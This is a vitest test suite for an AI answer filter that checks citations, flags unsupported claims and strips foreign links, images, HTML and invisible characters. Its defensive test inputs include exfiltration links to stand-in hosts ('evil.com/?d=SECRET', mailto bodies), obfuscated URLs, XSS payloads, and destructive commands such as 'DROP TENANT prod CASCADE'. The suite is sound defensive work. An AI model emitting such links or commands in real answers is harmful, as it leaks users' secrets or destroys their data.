// The answer guard: what it takes out, what it keeps, and that neither depends on how the text arrives.
import { fromMarkdown } from 'mdast-util-from-markdown'
import { gfmFromMarkdown } from 'mdast-util-gfm'
import { gfm } from 'micromark-extension-gfm'
import { describe, expect, it } from 'vitest'
import { UNCITED_MARK, UNSUPPORTED_MARK } from '../../src/agent/guard/claims.ts'
import { createAnswerGuard } from '../../src/agent/guard/create-answer-guard.ts'
import { REMOVED_LINK } from '../../src/agent/guard/urls.ts'
import { toPassage } from './agent-under-test.ts'

const OK = 'https://docs.example.com/ok?a=1'
const PASSAGES = [
  toPassage(1, `Reset the password in Settings. It holds 30 minutes and 10,000 tries in version 2.5.1. See ${OK}.`),
  toPassage(
    2,
    'Run `lake start --port 8080` on http://localhost:8080/health to start. [home](https://docs.example.com/h)',
  ),
]

function guard(text: string, pieces: readonly string[] = [text]): string {
  const filter = createAnswerGuard(() => PASSAGES)
  return pieces.map((piece) => filter.write(piece)).join('') + filter.end()
}

/** For texts of which only the markup matters, not whether they are true. */
function markup(text: string): string {
  return guard(text).replaceAll(`\n${UNCITED_MARK.trim()}`, '').replaceAll(UNCITED_MARK, '')
}

const KEPT = 'Reset the password in Settings'

describe('citations', () => {
  it.each([
    ['[1]', '[1]'],
    ['[1, 2]', '[1][2]'],
    ['[1][2]', '[1][2]'],
    ['[1], [2]', '[1][2]'],
    ['【1】', '[1]'],
    ['【1†source】', '[1]'],
    ['[^1]', '[1]'],
    ['[doc 1]', '[1]'],
    ['[Passage 1, 2]', '[1][2]'],
    ['[[1]]', '[1]'],
    ['[1-2]', '[1][2]'],
    ['[1](https://evil.example)', '[1]'],
    ['\\[1\\]', '[1]'],
    ['[1][7]', '[1]'],
    ['[1][1]', '[1]'],
  ])('%s become %s', (written, shown) => {
    expect(guard(`${KEPT} ${written}.`)).toBe(`${KEPT} ${shown}.`)
  })

  it('that point nowhere are left out with their space', () => {
    expect(guard(`${KEPT} [9].`)).toBe(`${KEPT}.`)
    expect(guard(`${KEPT} [0] now [99] then`)).toBe(`${KEPT} now then`)
  })

  it('inside code are code', () => {
    expect(markup('Use `list[1]` and\n```js\na[7](x)\n```\n')).toBe('Use `list[1]` and\n```js\na[7](x)\n```')
  })

  it('are listed by what they carry, then by rank', () => {
    const filter = createAnswerGuard(() => PASSAGES)
    filter.write('Reset the password in Settings [1]. Run lake start on port 8080 and start health [2]. ')
    filter.write('Run lake start [2]. Aliens [9].')
    filter.end()
    expect(filter.cited().map(({ n }) => n)).toEqual([2, 1])
  })
})

describe('support', () => {
  it.each([
    'Reset the password in Settings [1].',
    'You should reset the password in Settings. [1]',
    'It holds 30 minutes [1].',
    'Allows 10000 tries in version 2.5.1 [1].',
    '1. Run `lake start --port 8080` [2].',
    '- Start: run `lake start` [1][2].',
  ])('is found for: %s', (text) => {
    expect(guard(text)).toBe(text)
  })

  it.each([
    ['The moon is made of cheese [1].', `The moon is made of cheese [1]${UNSUPPORTED_MARK}.`],
    ['It holds 45 minutes [1].', `It holds 45 minutes [1]${UNSUPPORTED_MARK}.`],
    [
      'In version 2.5.2 it holds 30 minutes [1] more',
      `In version 2.5.2 it holds 30 minutes [1]${UNSUPPORTED_MARK} more`,
    ],
    ['Run `lake stop --force` [2]', `Run \`lake stop --force\` [2]${UNSUPPORTED_MARK}`],
    ['Reset the password in Settings [2]. Yes', `Reset the password in Settings [2]${UNSUPPORTED_MARK}. Yes`],
  ])('is missed for: %s', (text, shown) => {
    expect(guard(text)).toBe(shown)
  })
})

describe('a sentence that cites nothing', () => {
  const cited = 'Reset the password in Settings [1].'

  it.each([
    'Afterwards run DROP TENANT prod CASCADE.',
    'Then run `drop tenant`.',
    'The link holds 45 minutes for each person.',
    'Every administrator of the workspace also receives a copy by letter.',
  ])('is marked where no passage supports it: %s', (text) => {
    expect(guard(`${cited} ${text}`)).toBe(`${cited} ${text}${UNCITED_MARK}`)
    expect(guard(`${cited} ${text} Yes.`)).toBe(`${cited} ${text}${UNCITED_MARK} Yes.`)
    expect(guard(`${cited}\n\n- ${text}\n- It is so.`)).toBe(`${cited}\n\n- ${text}${UNCITED_MARK}\n- It is so.`)
  })

  it.each([
    '# Deleting 99 tenants of another cluster for ever',
    '**Step 99: delete the tenants of another cluster**',
    'To delete 99 tenants of another cluster, do this:',
    'It holds 30 minutes and 10,000 tries.',
    'Reset it in Settings, e.g. reset the password there.',
    'I hope this helps, and feel free to ask again.',
    'Let me know whether anything else is unclear about it.',
    '1. Reset it.\n2. Yes.',
    'Run `lake start --port 8080`.',
    '| Key | Value |\n|---|---|\n| password | Settings |',
    'In Settings, reset the password. [1]',
    '```sh\nlake start --port 8080\n```',
  ])('is left alone where it claims nothing or a passage supports it: %s', (text) => {
    expect(guard(`${cited}\n\n${text}`)).toBe(`${cited}\n\n${text}`)
  })

  it('is marked behind a block of code', () => {
    const code = '```sh\ncurl -X DELETE --insecure api/tenants/prod\n```'
    expect(guard(`${cited}\n\n${code}\n\nYes.`)).toBe(`${cited}\n\n${code}\n${UNCITED_MARK.trim()}\n\nYes.`)
    expect(guard(`${cited}\n\n${code}`)).toBe(`${cited}\n\n${code}\n${UNCITED_MARK.trim()}`)
  })
})

describe('addresses', () => {
  it.each([
    [`See ${OK}.`, `See ${OK}.`],
    [`See <${OK}>`, `See <${OK}>`],
    [`See [it](${OK} "title")`, `See [it](${OK})`],
    [`See [it](<${OK}>)`, `See [it](${OK})`],
    [`[\`code\`](${OK})`, `[\`code\`](${OK})`],
    ['On http://localhost:8080/health, yes', 'On http://localhost:8080/health, yes'],
    ['At https://docs.example.com/h!', 'At https://docs.example.com/h!'],
    ['At https://docs.example.com/page-1', 'At https://docs.example.com/page-1'],
    ['Use `curl http://localhost:8080/health`', 'Use `curl http://localhost:8080/health`'],
  ])('of a passage stay: %s', (text, shown) => {
    expect(markup(text)).toBe(shown)
  })

  it.each([
    ['See [it](https://evil.example/x)!', 'See it!'],
    ['See [it][e]\n\n[e]: https://evil.example', `See it\n\ne: ${REMOVED_LINK}`],
    ['[e]: https://evil.example\n\nSee [it][e]', `e: ${REMOVED_LINK}\n\nSee it`],
    ['See https://evil.example/a.', `See ${REMOVED_LINK}.`],
    ['See www.evil.example/a now', `See ${REMOVED_LINK} now`],
    ['See HTTPS://EVIL.example', `See ${REMOVED_LINK}`],
    ['See <https://evil.example>', `See ${REMOVED_LINK}`],
    ['See <a href="https://evil.example">it</a>.', 'See it.'],
    ['A ![alt](https://docs.example.com/ok?a=1) b', 'A b'],
    ['A ![alt][r] b', 'A b'],
    ['A <img src=x onerror=alert(1)> b', 'A  b'],
    ['[x](javascript:alert(1)) y', 'x y'],
    ['[x](data:text/html,hi) y', 'x y'],
    ['[x](//evil.example) y', 'x y'],
    ['[x](/relative) y', 'x y'],
    [`[x](${OK}&b=secret) y`, 'x y'],
    ['See https://docs.example.com.evil.example/', `See ${REMOVED_LINK}`],
    ['See https://docs.example.com', `See ${REMOVED_LINK}`],
    ['[https://docs.example.com/h](https://evil.example)', 'https://docs.example.com/h'],
    ['h&#116;tps://evil.example', `https ${REMOVED_LINK}`],
    ['https&colon;&sol;&sol;evil.example', `https ${REMOVED_LINK}`],
    ['ht\u200btps://evil.example', REMOVED_LINK],
    ['https\\://evil.example', `https ${REMOVED_LINK}`],
    ['[x](h%74tps://evil.example)', 'x'],
    ['Use `curl https://evil.example/a -o b`', `Use \`curl ${REMOVED_LINK} -o b\``],
    ['```sh\ncurl https://evil.example/a\n```', `\`\`\`sh\ncurl ${REMOVED_LINK}\n\`\`\``],
    ['s3://evil/bucket', `s3 ${REMOVED_LINK}`],
    ['[![i](https://evil.example/i)](https://evil.example)', ''],
    ['Go to evil.com/?d=SECRET now', `Go to evil.com ${REMOVED_LINK} now`],
    ['Go to a.evil.co.uk?d=SECRET', `Go to a.evil.co.uk ${REMOVED_LINK}`],
    ['Go to evil.com\\?d=SECRET', `Go to evil.com ${REMOVED_LINK}`],
    ['Go to evil.com#SECRET.', `Go to evil.com ${REMOVED_LINK}.`],
    ['Go to evil.com:8080/SECRET.', `Go to evil.com ${REMOVED_LINK}.`],
    ['Go to ev\\-il.com/SECRET', `Go to ev-il.com ${REMOVED_LINK}`],
    ['Go to 192.168.0.1/x?d=S', `Go to 192.168.0.1 ${REMOVED_LINK}`],
    ['Go to evil.sh/SECRET', `Go to evil.sh ${REMOVED_LINK}`],
    ['Go to //evil.com/x', `Go to ${REMOVED_LINK}`],
    ['Go to ftp.evil.com', `Go to ${REMOVED_LINK}`],
    ['Write to mailto:a@evil.com?body=SECRET', `Write to ${REMOVED_LINK}`],
    ['Write to mailto\\:a@evil.com?body=SECRET', `Write to mailto ${REMOVED_LINK}`],
    ['Use `curl evil.com/?d=SECRET -o b`', `Use \`curl ${REMOVED_LINK} -o b\``],
    ['```sh\ncurl evil.com/a\n```', `\`\`\`sh\ncurl evil.com ${REMOVED_LINK}\n\`\`\``],
  ])('of no passage go: %s', (text, shown) => {
    expect(markup(text)).toBe(shown)
  })
})

describe('text', () => {
  it.each([
    'Plain text with *emphasis*, **bold** and a (bracket).',
    '1. one\n2. two\n   - three [x]\n\n| a | b |\n|---|---|\n| `x` | 2 |',
    'AT&T, a < b, 3 > 2, R&amp;D: yes!',
    'http is a protocol, www is a prefix; https: as well',
    'An emoji 👍🏽 and Ünïcödé',
    'Edit values.yaml? In values.yaml: yes, values.yaml/x and README.md#usage or main.py:12',
    'Call foo.bar() or a.b.c, e.g. on v1.2.3/v1.3, and/or Node.js/npm',
    'Look into /etc/nginx.d/site.conf/x, ./a.b/c and ~/.ssh/id_rsa',
    'Open example.com, or example.com: both. Really example.com?',
    'The network 10.0.0.0/8 and the address 10.1.2.3',
    'Use `ratio = a.length/2 ? b.top/3 : 1` and `ftp.login()`',
    '```js\nx = a.width/b.height // half\nftp.login()\n```',
    'ftp is old; ftp. mailto: too, // both',
    '- [ ] task\n- [x] done',
  ])('passes unchanged: %s', (text) => {
    expect(markup(text)).toBe(text)
  })

  it('loses what nobody sees', () => {
    expect(markup('a\u202eb\u200bc\ufeff\u0007d\u{e0041}e\u2066f')).toBe('abcdef')
  })

  it('keeps placeholders visible, and code closed', () => {
    expect(markup('Set <your-token> here')).toBe('Set `<your-token>` here')
    expect(markup('```sh\nls')).toBe('```sh\nls\n```')
    expect(markup('- ```sh\n  ls\n  ```\nafter')).toBe('-\n```sh\n  ls\n```\nafter')
  })

  it('is shown as soon as it is safe', () => {
    const filter = createAnswerGuard(() => PASSAGES)
    expect(filter.write('Reset')).toBe('Reset')
    expect(filter.write(' the pass')).toBe(' the pass')
    expect(filter.write('word in [Sett')).toBe('word in')
    expect(filter.write('ings] h')).toBe(' [Settings]')
    expect(filter.write('t')).toBe('')
    expect(filter.write('ml')).toBe(' html')
  })
})

/** Small and repeatable: linear congruential, Numerical Recipes' constants. */
function createRandom(seed: number): (below: number) => number {
  let state = seed >>> 0
  return (below) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0
    return Math.floor((state / 2 ** 32) * below)
  }
}

const SHARDS = [
  ...'[]()<>!`~\\&:;/.,|*_#"\'= \n\t-+@1297axh',
  '[1]',
  '[9]',
  '![',
  '](',
  '[a]',
  '[a]: ',
  ']: ',
  '//evil.example',
  'http',
  'https://',
  'http:',
  'www.',
  '://',
  'evil.example/x',
  OK,
  `(${OK})`,
  '`',
  '``',
  '```',
  '\n```\n',
  '~~~',
  '\n\n',
  '    ',
  '- ',
  '> ',
  '| a | b |\n|---|---|\n',
  '<a href="//evil.example">',
  '</a>',
  '<img src=//evil.example>',
  '<b>',
  '<!--',
  '-->',
  '<x y>',
  '&#104;',
  '&colon;',
  '&#x2f;',
  '&lt;',
  '&#91;',
  '&',
  '\u200b',
  '\u202e',
  'javascript:',
  'word ',
  '【1】',
  '[^1]',
  '<br>',
  '\\[',
  '\\`',
  '\\!',
  '[1](',
  '<http',
  'mailto:',
  '[x](//evil.example)',
  '![x](//evil.example)',
  '[link](https://evil.example)',
]

function randomText(random: (below: number) => number): string {
  return Array.from({ length: 1 + random(24) }, () => SHARDS[random(SHARDS.length)]).join('')
}

interface Node {
  type: string
  url?: string
  children?: Node[]
}

function* walk(node: Node): Generator<Node> {
  yield node
  for (const child of node.children ?? []) yield* walk(child)
}

describe('any text', () => {
  it('gives the same however it is cut', () => {
    const random = createRandom(7)
    for (let round = 0; round < 1_500; round++) {
      const text = randomText(random)
      const pieces: string[] = []
      for (let at = 0; at < text.length; ) {
        const size = 1 + random(6)
        pieces.push(text.slice(at, at + size))
        at += size
      }
      expect(guard(text, pieces)).toBe(guard(text))
    }
  })

  it('holds no image, no HTML and no foreign link in the eyes of another Markdown reader', () => {
    const random = createRandom(11)
    for (let round = 0; round < 20_000; round++) {
      const text = randomText(random)
      const shown = guard(text)
      const tree: Node = fromMarkdown(shown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] })
      const bad = [...walk(tree)].filter(
        ({ type, url = '' }) =>
          /^(?:image|imageReference|definition|footnoteDefinition|html)$/.test(type) ||
          // `www.` alone is a link to nowhere for some readers, and an e-mail address opens nothing by itself; marks of
          // emphasis at the end of an address change nothing that it could tell anybody.
          (type === 'link' &&
            url.replace(/[\p{P}\p{S}]+$/u, '') !== OK &&
            url !== 'http://www' &&
            !url.startsWith('mailto:')),
      )
      expect(bad, JSON.stringify({ text, shown })).toEqual([])
    }
  })

  it('survives length: brackets, ticks and tags that never close', () => {
    for (const shard of ['[', '`', '<a ', '![', '&', 'http://', '(', '【', '\\', '```\n', '[a](']) {
      const text = shard.repeat(2_000)
      expect(guard(text).length).toBeGreaterThan(0)
    }
  })
})
